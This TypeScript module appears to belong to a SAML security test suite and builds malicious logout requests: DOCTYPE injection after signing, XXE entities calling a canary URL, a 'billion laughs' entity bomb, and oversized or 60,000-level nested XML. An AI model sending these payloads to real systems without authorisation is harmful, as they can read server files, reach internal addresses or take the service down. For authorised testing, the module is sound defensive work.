import type { Text } from '../../attack.ts';
import { append } from '../../forge/pieces.ts';
import type { LogoutVariant } from '../logout-attack.ts';
import type { LogoutForge } from '../logout-forge.ts';
import { logoutAttackOf, postOnly, words } from './logout-of.ts';

const attack = logoutAttackOf({ requirements: ['A3.12.01', 'A3.12.03'] });

type Binding = Parameters<LogoutForge['write']>[0];

/** Signed by the provider; in a form the document type is put in front afterwards, where no signature covers it. */
const typed = (forge: LogoutForge, binding: Binding, name: Text, type: string): LogoutVariant => ({
  name,
  craft: (session) =>
    binding === 'post'
      ? forge.write(binding, forge.request(session), { afterSigning: (xml) => type + xml })
      : forge.write(binding, type + forge.request(session)),
});

/** As a stranger sends it: a parser that obeys does so before anybody looks at signatures. */
const loose = (
  forge: LogoutForge,
  binding: Binding,
  name: Text,
  change: (xml: string) => string,
): LogoutVariant => ({
  name,
  craft: (session) => forge.write(binding, change(forge.request(session)), { signing: 'none' }),
});

const laughs = Array.from({ length: 9 }, (_, level) =>
  level === 0
    ? '<!ENTITY a0 "hahahahahahahahahaha">'
    : `<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`,
).join('');
const deep = (depth: number): string => '<x>'.repeat(depth) + '</x>'.repeat(depth);

const standsStill: Text = {
  de: 'Wenige Nachrichten eines Fremden legen die Anwendung für alle Bürgerinnen und Bürger lahm.',
  en: 'Few messages of a stranger paralyse the application for all citizens.',
};

/** Logouts that a careless parser pays for. */
export const logoutDocumentAttacks = [
  attack({
    id: 'logout-document-type',
    title: { de: 'Dokumenttyp (DTD) in der Abmeldung', en: 'Document type (DTD) in the logout' },
    harm: {
      de: 'Über den Dokumenttyp lassen sich Dateien lesen, interne Adressen aufrufen und Werte austauschen.',
      en: 'A document type can read files, call internal addresses and exchange values.',
    },
    references: ['OWASP XML Security Cheat Sheet'],
    variants: (forge, binding) => [
      typed(forge, binding, words('leer', 'empty'), '<!DOCTYPE saml2p:LogoutRequest>'),
      typed(
        forge,
        binding,
        words('mit Kennung als ID', 'with an attribute of type ID'),
        '<!DOCTYPE r [<!ATTLIST saml2p:LogoutRequest ID ID #IMPLIED>]>',
      ),
    ],
  }),
  attack({
    id: 'logout-external-entity',
    severity: 'critical',
    title: { de: 'Externe Entität (XXE) in der Abmeldung', en: 'External entity (XXE) in the logout' },
    harm: {
      de: 'Die Anwendung liest auf Wunsch eines Fremden Dateien des Servers oder ruft interne Adressen auf.',
      en: 'The application reads files of the server or calls internal addresses at the wish of a stranger.',
    },
    references: ['CWE-611'],
    requirements: ['A3.12.01', 'A3.12.03', 'A3.6.01'],
    variants: (forge, binding) => {
      const { canary } = forge.facts;
      return [
        loose(
          forge,
          binding,
          words('allgemeine Entität', 'general entity'),
          (xml) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${canary}/entitaet">]>${append(xml, '&x;')}`,
        ),
        loose(
          forge,
          binding,
          words('Parameterentität', 'parameter entity'),
          (xml) => `<!DOCTYPE r [<!ENTITY % x SYSTEM "${canary}/parameter"> %x;]>${xml}`,
        ),
        typed(
          forge,
          binding,
          words('externer Dokumenttyp', 'external document type'),
          `<!DOCTYPE r SYSTEM "${canary}/dokumenttyp">`,
        ),
      ];
    },
  }),
  attack({
    id: 'logout-entity-expansion',
    bad: 'outage',
    title: {
      de: 'Vervielfältigte Entitäten in der Abmeldung („Billion Laughs“)',
      en: 'Multiplied entities in the logout (billion laughs)',
    },
    harm: standsStill,
    references: ['CWE-776'],
    requirements: ['A3.12.01', 'A3.13.01'],
    variants: (forge, binding) => [
      loose(
        forge,
        binding,
        words('neun Stufen', 'nine levels'),
        (xml) => `<!DOCTYPE r [${laughs}]>${append(xml, '&a8;')}`,
      ),
    ],
  }),
  attack({
    id: 'logout-huge',
    bad: 'outage',
    bindings: postOnly,
    title: { de: 'Sehr große oder tiefe Abmeldung', en: 'Very big or deep logout' },
    harm: standsStill,
    references: ['CWE-400'],
    requirements: ['A3.12.01', 'A3.13.01'],
    variants: (forge, binding) => [
      loose(forge, binding, words('8 MB Text', '8 MB of text'), (xml) =>
        append(xml, `<x>${'A'.repeat(8_000_000)}</x>`),
      ),
      loose(forge, binding, words('60.000 Ebenen', '60,000 levels'), (xml) => append(xml, deep(60_000))),
    ],
  }),
];
